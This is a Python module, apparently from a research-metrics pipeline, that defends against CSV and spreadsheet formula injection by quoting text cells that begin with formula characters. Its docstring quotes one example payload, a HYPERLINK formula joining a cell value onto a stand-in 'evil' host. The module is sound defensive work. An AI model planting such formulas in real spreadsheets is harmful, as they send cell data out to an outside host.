"""Spreadsheet-safe text: no cell we write can become a live formula.

A spreadsheet opening a CSV or XLSX file runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula (and a leading tab or carriage return can
hide one), so an author or institution name such as
``=HYPERLINK("http://evil…"&A1, …)`` taken from an input file would become a
live link in ``report.xlsx`` or an ``indicators/*.csv`` opened in Excel.
Following OWASP's CSV-injection rule, every *text* cell that starts with one
of these characters is written with a single quote in front; numbers are
never changed (a negative number stays a number).  Used by the indicator
table writer (:func:`oncometrics.pipeline.write_table`), the workbook writer
(:mod:`oncometrics.report.xlsx`) and the dashboard's CSV downloads.
"""

from __future__ import annotations

from typing import Any

import pyarrow as pa
import pyarrow.compute as pc

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PATTERN = "^[=+\\-@\\t\\r]"


def safe_cell(value: Any) -> Any:
    """`value` with a ``'`` in front when it is text starting a formula.

    >>> safe_cell("=1+1"), safe_cell("-x"), safe_cell(-5), safe_cell("Lyon")
    ("'=1+1", "'-x", -5, 'Lyon')
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_table(table: pa.Table) -> pa.Table:
    """`table` with every text cell made safe (:func:`safe_cell`), in Arrow.

    Only string columns change; numeric, boolean and date columns are kept.
    """
    for i, field in enumerate(table.schema):
        if not (pa.types.is_string(field.type) or pa.types.is_large_string(field.type)):
            continue
        col = table.column(i)
        starts = pc.match_substring_regex(col, _PATTERN)
        if not pc.any(starts).as_py():
            continue
        quote, empty = pa.scalar("'", field.type), pa.scalar("", field.type)
        quoted = pc.binary_join_element_wise(quote, col, empty)
        safe = pc.if_else(starts, quoted, col)
        table = table.set_column(i, field, safe)
    return table
